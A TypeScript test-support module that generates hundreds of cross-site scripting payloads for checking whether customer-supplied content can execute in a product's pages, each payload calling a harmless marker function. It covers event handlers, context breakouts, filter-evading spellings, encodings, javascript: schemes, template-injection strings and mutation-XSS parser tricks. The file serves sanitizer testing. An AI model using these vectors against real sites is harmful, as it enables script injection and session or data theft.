/**
 * What customers may send to have it run in our pages, put together from the ways there are: elements and their
 * handlers, spellings, addresses, encodings, templates, and shapes that a parser rewrites. Each reports its own number
 * to the watch of test/support/execution-watch.ts.
 */

type Shape = (act: string) => string;

/** What a payload does once it runs, without a space, so that it needs no quotes. */
const acts: readonly ((id: number) => string)[] = [
  (id) => `ran(${id})`,
  (id) => `top.ran(${id})`,
  (id) => `ran\`${id}\``,
  (id) => `alert(${id})`,
  (id) => `self['ran'](${id})`,
  (id) => `import('//ran.invalid/${id}')`,
];

/** Elements with the handlers that fire on them, most of them by themselves. */
const elements: Readonly<Record<string, readonly string[]>> = {
  "img src=x": ["onerror", "onload", "onclick", "onpointerover"],
  "img srcset=x": ["onerror"],
  "image href=x": ["onerror"],
  svg: ["onload", "onclick", "onfocusin tabindex=1 autofocus x"],
  "svg><image href=x": ["onerror"],
  "svg><animate attributeName=x dur=1s": ["onbegin", "onend", "onrepeat"],
  "svg><set attributeName=x": ["onbegin"],
  body: ["onload", "onpageshow", "onhashchange", "onresize", "onscroll", "onmessage"],
  "frameset rows=1": ["onload"],
  "input autofocus": ["onfocus", "onblur", "oninput"],
  "input type=image src=x": ["onerror"],
  "select autofocus": ["onfocus"],
  "textarea autofocus": ["onfocus"],
  "button autofocus": ["onfocus", "onclick"],
  "button popovertarget=x>x</button><x popover id=x": ["onbeforetoggle", "ontoggle"],
  "details open": ["ontoggle"],
  "dialog open": ["onclose", "oncancel"],
  "video src=x": ["onerror", "onloadstart", "oncanplay"],
  "video><source src=x": ["onerror"],
  "audio src=x": ["onerror", "onloadstart"],
  "audio><source": ["onerror"],
  "track src=x": ["onerror"],
  "iframe src=x": ["onload", "onerror"],
  iframe: ["onload"],
  "object data=x": ["onerror", "onload"],
  "embed src=x": ["onerror", "onload"],
  "link rel=stylesheet href=x": ["onerror", "onload"],
  style: ["onload", "onerror"],
  "script src=x": ["onerror"],
  "marquee width=1 loop=1": ["onstart", "onfinish", "onbounce"],
  math: ["onclick", "onfocus tabindex=1 autofocus x"],
  "a href=x": ["onclick", "onmouseover", "onfocus autofocus x"],
  "div contenteditable autofocus": ["onfocus", "oninput", "onpaste", "oncopy"],
  "div draggable=true": ["ondragstart", "onmousemove", "onwheel"],
  "x style=animation:spin tabindex=1 autofocus": ["onanimationstart", "onfocus"],
  "x style=transition:all tabindex=1 id=x": ["ontransitionrun", "ontransitionend"],
  "form action=x": ["onsubmit", "onreset", "onformdata"],
  "meter tabindex=1 autofocus": ["onfocus"],
  "base href=x": ["onload"],
  "portal src=x": ["onload"],
};

const byHandler: readonly Shape[] = Object.entries(elements).flatMap(([element, handlers]) =>
  handlers.map(
    (handler): Shape =>
      (act) =>
        `<${element} ${handler}=${act}>`,
  ),
);

/** What stands before it may be an attribute, a raw text or a comment that has to be left first. */
const leavers: readonly string[] = [
  '">',
  "'>",
  '"/>',
  "-->",
  "--!>",
  "]]>",
  "*/",
  "</textarea>",
  "</title>",
  "</style>",
  "</script>",
  "</noscript>",
  "</xmp>",
  "</template>",
  "</svg>",
  "</option></select>",
  "</iframe>",
  "</p></div></article>",
  "\n\n",
  "\u202e",
  "\ufeff",
  "\u2028",
];
const carriers: readonly Shape[] = [
  (act) => `<img src=x onerror=${act}>`,
  (act) => `<svg onload=${act}>`,
  (act) => `<script>${act}</script>`,
];
const byLeaver: readonly Shape[] = leavers.flatMap((leaver) =>
  carriers.map(
    (carrier): Shape =>
      (act) =>
        leaver + carrier(act),
  ),
);

/** One element, written so that a filter by expression doesn't see it. */
const bySpelling: readonly Shape[] = [
  (act) => `<ImG sRc=x OnErRoR=${act}>`,
  (act) => `<img/src=x/onerror=${act}>`,
  (act) => `<img\tsrc=x\tonerror=${act}>`,
  (act) => `<img\nsrc=x\nonerror=${act}>`,
  (act) => `<img\fsrc=x\fonerror=${act}>`,
  (act) => `<img src=x onerror\t=\n${act}>`,
  (act) => `<img src=x onerror="${act}">`,
  (act) => `<img src=x onerror='${act}'>`,
  (act) => `<img src="x"onerror="${act}">`,
  (act) => `<img src=x:x onerror=${act}`,
  (act) => `<img src=x onerror=${act}//`,
  (act) => `<img src=x onerror=${act} <`,
  (act) => `<<img src=x onerror=${act}>>`,
  (act) => `<img <img src=x onerror=${act}>`,
  (act) => `<img """><img src=x onerror=${act}>"`,
  (act) => `<img src=x on error=x onerror=${act}>`,
  (act) => `<scr<script>ipt>${act}</scr</script>ipt>`,
  (act) => `<SCRIPT/x>${act}</SCRIPT\t>`,
  (act) => `<script\n>${act}\n//</script x>`,
  (act) => `<script src=data:text/javascript,${act}></script>`,
  (act) => `<script type=module>${act}</script>`,
  (act) => `<script type=importmap>{"imports":{"x":"data:text/javascript,${act}"}}</script>`,
  (act) => `<svg><script href=data:text/javascript,${act} />`,
  (act) => `<svg><script>${act}`,
  (act) => `<!--><img src=x onerror=${act}>-->`,
  (act) => `<!--[if true]><img src=x onerror=${act}><![endif]-->`,
  (act) => `<![CDATA[<img src=x onerror=${act}>]]>`,
  (act) => `<?xml version="1.0"?><img src=x onerror=${act}>`,
  (act) => `<!DOCTYPE x [<!ENTITY y "<img src=x onerror=${act}>">]>&y;`,
  (act) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${act}</x:script>`,
  (act) => `</img src=x onerror=${act}>`,
  (act) => `<%00img src=x onerror=${act}>`,
  (act) => `<image src=x onerror=${act}>`,
  (act) => `<x onclick=${act}>x`,
];

const escapedInScript = (text: string): string =>
  Array.from(text, (letter) => `\\u${letter.charCodeAt(0).toString(16).padStart(4, "0")}`).join("");
const inEntities = (text: string): string =>
  Array.from(text, (letter) => `&#${letter.charCodeAt(0)};`).join("");
const inHexEntities = (text: string): string =>
  Array.from(text, (letter) => `&#x${letter.charCodeAt(0).toString(16)}`).join("");
const inWide = (text: string): string =>
  text.replaceAll(/[!-~]/g, (letter) => String.fromCharCode(letter.charCodeAt(0) + 0xfee0));
const encoders: readonly ((text: string) => string)[] = [
  inEntities,
  inHexEntities,
  inWide,
  escapedInScript,
  encodeURIComponent,
  (text) => encodeURIComponent(encodeURIComponent(text)),
  (text) => text.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  (text) => text.replaceAll("<", "&amp;lt;"),
  (text) => text.replaceAll("<", "\\x3c").replaceAll(">", "\\x3e"),
  (text) => text.replaceAll("<", "\\u003c").replaceAll("/", "\\/"),
  (text) => text.replaceAll("<", "%u003c"),
  (text) => text.replaceAll("<", "+ADw-").replaceAll(">", "+AD4-"),
  (text) => text.replaceAll("<", "\u00bc").replaceAll(">", "\u00be"),
  (text) => text.replaceAll("<", "\u2039").replaceAll(">", "\u203a"),
  (text) => `data:text/html;base64,${Buffer.from(text).toString("base64")}`,
  (text) => JSON.stringify(text),
];
const byEncoding: readonly Shape[] = encoders.flatMap((encode) =>
  carriers.map(
    (carrier): Shape =>
      (act) =>
        encode(carrier(act)),
  ),
);

/** Schemes as browsers still take them, and as careless checks don't see them. */
const schemes: readonly string[] = [
  "javascript:",
  "JaVaScRiPt:",
  "java\tscript:",
  "java\nscript:",
  " javascript:",
  "\u0001javascript:",
  "\u00a0javascript:",
  "javascript&colon;",
  "&#106;avascript:",
  "jav&#x09;ascript:",
  "javascript://%0a",
  "javascript://example.com/%0a",
  "javascript:void%200;",
  "data:text/html,<script>",
  "data:image/svg+xml,<svg onload=",
  "vbscript:",
  "view-source:javascript:",
  "feed:javascript:",
  "blob:javascript:",
  "https:javascript:",
];
/** Where a page may take an address from. */
const addresses: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `<a href="${address}">x</a>`,
  (address) => `[x](${address})`,
  (address) => `![x](${address})`,
  (address) => `<${address}>`,
  (address) => `[x]: ${address} "x"`,
  (address) => `<iframe src="${address}">`,
  (address) => `<form action="${address}"><button>x`,
  (address) => `<button formaction="${address}">x`,
  (address) => `<object data="${address}">`,
  (address) => `<meta http-equiv=refresh content="0;url=${address}">`,
  (address) => `<base href="${address}">`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>x`,
  (address) => `<math href="${address}">x`,
];
/** Each scheme at two thirds of these places, and each place with two thirds of those schemes. */
const byAddress: readonly Shape[] = schemes.flatMap((scheme, at) =>
  addresses
    .filter((_, place) => (place + at) % 3 !== 0)
    .map(
      (address): Shape =>
        (act) =>
          address(scheme + act),
    ),
);

/** What template engines on either side would carry out. */
const byTemplate: readonly Shape[] = [
  (act) => `{{constructor.constructor("${act}")()}}`,
  (act) => `{{$on.constructor("${act}")()}}`,
  (act) => `{{_c.constructor("${act}")()}}`,
  (act) => `{{{<img src=x onerror=${act}>}}}`,
  (act) => `{{- name }}<img src=x onerror=${act}>`,
  (act) => `{% raw %}<img src=x onerror=${act}>{% endraw %}`,
  (act) => `\${${act}}`,
  (act) => `#{${act}}`,
  (act) => `*{${act}}`,
  (act) => `@{${act}}`,
  (act) => `@(${act})`,
  (act) => `<%= ${act} %>`,
  (act) => `<%- "<img src=x onerror=${act}>" %>`,
  (act) => `[[${act}]]`,
  (act) => `[(${act})]`,
  (act) => `$t(${act})`,
  (act) => `$t(x, {"defaultValue": "<img src=x onerror=${act}>"})`,
  (act) => `<x ng-app ng-init="${act}">`,
  (act) => `<x v-html="'<img src=x onerror=${act}>'">`,
  (act) => `<x v-on:click="${act}">`,
  (act) => `<x x-data x-init="${act}">`,
  (act) => `<x hx-on:load="${act}">`,
  (act) => `<1>${act}</1><0>x</0>`,
  (act) => `%s%n%x <img src=x onerror=${act}>`,
];

/** Text that is harmless as it is read first and something else once it has been written out and read again. */
const raw = ["style", "script", "xmp", "noscript", "noembed", "iframe", "title", "textarea"];
const foreign: readonly (readonly [string, string])[] = [
  ["svg", "desc"],
  ["svg", "foreignObject"],
  ["math", "mtext"],
  ["math", "annotation-xml encoding=text/html"],
];
const byRewriting: readonly Shape[] = [
  ...foreign.flatMap(([outer, inner]) =>
    raw.map(
      (tag): Shape =>
        (act) =>
          `<${outer}><${inner}><${tag}><a title="</${tag}><img src=x onerror=${act}>">`,
    ),
  ),
  ...raw.map(
    (tag): Shape =>
      (act) =>
        `<${tag}><p title="</${tag}><img src=x onerror=${act}>">`,
  ),
  (act) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=${act}>">`,
  (act) => `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${act}>`,
  (act) => `<table><td><svg><style><a id="</style><img src=x onerror=${act}>"></table>`,
  (act) => `<select><template><style><a title="</style></select><img src=x onerror=${act}>">`,
  (act) => `<p><b><p><b><p><table><svg><p><style><a title="</style><img src=x onerror=${act}>">`,
  (act) => `<template shadowrootmode=open><img src=x onerror=${act}></template>`,
  (act) => `<svg></p><style><a id="</style><img src=x onerror=${act}>">`,
  (act) => `<a title="\`<img src=x onerror=${act}>\`">`,
];

/** For a page that puts text into a script, a style or a list of attributes. */
const byContext: readonly Shape[] = [
  (act) => `";${act}//`,
  (act) => `';${act}//`,
  (act) => `\`;${act}//`,
  (act) => `\\";${act}//`,
  (act) => `"-${act}-"`,
  (act) => `'-${act}-'`,
  (act) => `"}];${act}//`,
  (act) => `\u2028${act}\u2029`,
  (act) => `*/${act}/*`,
  (act) => `"onmouseover="${act}`,
  (act) => `'onfocus='${act}'autofocus='`,
  (act) => `\`onfocus=${act} autofocus`,
  (act) => ` onfocus=${act} autofocus tabindex=1 `,
  (act) => `https://example.com/"onmouseover="${act}`,
  (act) => `https://example.com/'onmouseover='${act}`,
  (act) => `https://example.com/?<img src=x onerror=${act}>`,
  (act) => `https://${encodeURIComponent(act)}@example.com/<svg onload=${act}>`,
  (act) => `mailto:x@example.com?body=<img src=x onerror=${act}>`,
  (act) => `</style><style>*{background:url(//ran.invalid/${encodeURIComponent(act)})}`,
  (act) => `x{background:url("javascript:${act}")}`,
  (act) => `x:expression(${act})`,
  (act) => `<style>@import "//ran.invalid/${encodeURIComponent(act)}";</style>`,
  (act) => `<link rel=stylesheet href="//ran.invalid/${encodeURIComponent(act)}">`,
  (act) => `<link rel=prefetch href="//ran.invalid/${encodeURIComponent(act)}">`,
  (act) => `<img src="//ran.invalid/${encodeURIComponent(act)}">`,
  (act) => `<img src='//ran.invalid/?${encodeURIComponent(act)}`,
  (act) => `![x](//ran.invalid/${encodeURIComponent(act)})`,
  (act) => `<body background="//ran.invalid/${encodeURIComponent(act)}">`,
  (act) => `<video poster="//ran.invalid/${encodeURIComponent(act)}">`,
  (act) => `<iframe srcdoc="<script>parent.${act}</script>">`,
  (act) => `<object data="data:text/html,<script>parent.${act}</script>">`,
  (act) => `<svg><use href="data:image/svg+xml,<svg id=x onload=${act}>#x">`,
  (act) => `<svg><foreignObject><iframe srcdoc="<script>top.${act}</script>">`,
  (act) => `<form id=root><input name=innerHTML value="<img src=x onerror=${act}>">`,
  (act) => `{"__proto__":{"innerHTML":"<img src=x onerror=${act}>"}}`,
  (act) => `{"type":"text","text":{"text":"<img src=x onerror=${act}>"}}`,
  (act) => `\u202e>${act}=rorreno x=crs gmi<`,
  (act) => `**<img src=x onerror=${act}>** _<svg onload=${act}>_`,
  (act) => `\`\`\`html\n<img src=x onerror=${act}>\n\`\`\``,
  (act) => `\u001b]8;;javascript:${act}\u0007x\u001b]8;;\u0007`,
];

const shapes = [
  ...byHandler,
  ...byLeaver,
  ...bySpelling,
  ...byEncoding,
  ...byAddress,
  ...byTemplate,
  ...byRewriting,
  ...byContext,
];

/** Each once; the number that it reports is its place in this list. */
export const payloads: readonly string[] = shapes.map((shape, id) => {
  const act = acts[id % acts.length];
  if (act === undefined) throw new Error("There is always an act.");
  return shape(act(id));
});
